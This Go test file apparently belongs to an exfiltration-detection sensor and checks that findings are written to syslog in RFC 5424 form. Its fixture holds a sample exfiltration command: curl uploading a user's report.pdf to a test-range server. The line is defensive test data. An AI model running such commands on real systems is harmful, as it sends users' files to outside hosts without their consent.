package syslog

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/netip"
	"testing"
	"time"

	"github.com/leodido/go-syslog/v4/rfc5424"

	"exfilwatch/attribution"
	"exfilwatch/internal/rsyslogtest"
	"exfilwatch/sensor/detect"
	"exfilwatch/sensor/events"
)

var severities = []string{"low", "medium", "high", "critical"}

// testFinding builds a finding like the detector's (AN0424, an HTTP upload
// by curl); files adds qualifying reads to make the JSON longer.
func testFinding(i int, exe string, files int) *detect.Finding {
	f := &detect.Finding{
		ID:          fmt.Sprintf("%024x", 0xabc000+i),
		RuleID:      "AN0424",
		GOOS:        "linux",
		Created:     time.Date(2025, 3, 4, 5, 6, 7, 123456789, time.UTC).Add(time.Duration(i) * time.Second),
		Severity:    severities[i%len(severities)],
		Score:       i % 8,
		Reasons:     []detect.Reason{{Code: "sensitive_read", Description: "curl read ~/Documents/report.pdf", Weight: 0}, {Code: "network_tool", Description: "curl is a network tool", Weight: 1}},
		Process:     &attribution.Process{PID: int32(4000 + i), PPID: 3999, Name: "curl", Executable: exe, Args: []string{"curl", "-F", "f=@report.pdf", "http://198.18.0.2:8080/upload"}, UID: 1000, User: "alice"},
		Attribution: "socket_table",
	}
	for j := 0; j < files; j++ {
		f.Files = append(f.Files, detect.File{Path: fmt.Sprintf("/home/alice/Documents/ünïcode-report-%04d.pdf", j), Class: "documents",
			Time: f.Created.Add(-time.Minute), Access: "read", Size: 12345, Hashed: true, PID: int32(4000 + i), ProcessName: "curl", Executable: exe, Relation: "self", Source: "fanotify"})
	}
	u := &f.Upload
	u.Protocol = "http"
	u.Conn = events.Conn{FlowID: uint64(i + 1), Client: netip.MustParseAddrPort("198.18.0.1:40000"), Server: netip.MustParseAddrPort("198.18.0.2:8080"), Transport: "tcp", Direction: "outbound"}
	u.Start = f.Created.Add(-2 * time.Second)
	u.End = f.Created.Add(-time.Second)
	u.Bytes = int64(100000 + i)
	u.FlowIDs = []uint64{uint64(i + 1)}
	u.Method, u.Target, u.Host, u.UserAgent, u.ContentType = "POST", "/upload", "198.18.0.2:8080", "curl/7.88.1", "multipart/form-data; boundary=x"
	return f
}

// wantSD is the SD element's params a finding must produce.
func wantSD(f *detect.Finding) map[string]string {
	m := map[string]string{"rule": f.RuleID, "severity": f.Severity, "id": f.ID,
		"bytes": fmt.Sprint(f.Upload.Bytes)}
	if f.Process != nil {
		m["pid"] = fmt.Sprint(f.Process.PID)
		if f.Process.Executable != "" {
			m["exe"] = f.Process.Executable
		}
	}
	if f.Upload.Conn.Server.IsValid() {
		m["dst"] = f.Upload.Conn.Server.String()
	}
	return m
}

// parsed is an RFC 5424 message as go-syslog read it, with its MSG as
// JSON unless it was cut.
type parsed struct {
	*rfc5424.SyslogMessage
	sd   map[string]string
	msg  []byte // BOM removed
	bom  bool
	json map[string]any
}

// parse5424 parses strictly (MSG must be BOM + UTF-8 or carry no BOM) and
// checks the parts every message of ours has.
func parse5424(t testing.TB, raw []byte) *parsed {
	t.Helper()
	m, err := rsyslogtest.Parse5424(raw, SDID)
	if err != nil {
		t.Fatal(err)
	}
	p := &parsed{SyslogMessage: m.SyslogMessage, sd: m.SD, msg: m.Msg, bom: m.BOM}
	if _, cut := p.sd["truncated"]; !cut {
		if err := json.Unmarshal(p.msg, &p.json); err != nil {
			t.Fatalf("MSG is not JSON: %v\n%q", err, p.msg)
		}
	}
	return p
}

// checkFinding asserts that a parsed message carries f intact.
func checkFinding(t testing.TB, p *parsed, f *detect.Finding) {
	t.Helper()
	if got := deref(p.Appname); got != AppName {
		t.Errorf("APP-NAME %q", got)
	}
	if got := deref(p.MsgID); got != f.RuleID {
		t.Errorf("MSGID %q, want %q", got, f.RuleID)
	}
	if p.Severity == nil || int(*p.Severity) != Severity(f.Severity) {
		t.Errorf("severity %v, want %d for %s", p.Severity, Severity(f.Severity), f.Severity)
	}
	want := wantSD(f)
	for k, v := range want {
		if p.sd[k] != v {
			t.Errorf("SD %s = %q, want %q", k, p.sd[k], v)
		}
	}
	for k := range p.sd {
		if _, ok := want[k]; !ok && k != "truncated" {
			t.Errorf("unexpected SD param %s=%q", k, p.sd[k])
		}
	}
	if _, cut := p.sd["truncated"]; cut {
		return
	}
	wantJSON, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(p.msg, wantJSON) {
		t.Errorf("MSG differs from the finding's JSON:\n got %s\nwant %s", p.msg, wantJSON)
	}
	if ev, _ := p.json["event"].(map[string]any); ev == nil || ev["id"] != f.ID {
		t.Errorf("JSON event.id %v, want %s", p.json["event"], f.ID)
	}
}

var (
	deref = rsyslogtest.Str
	lines = rsyslogtest.Lines
)
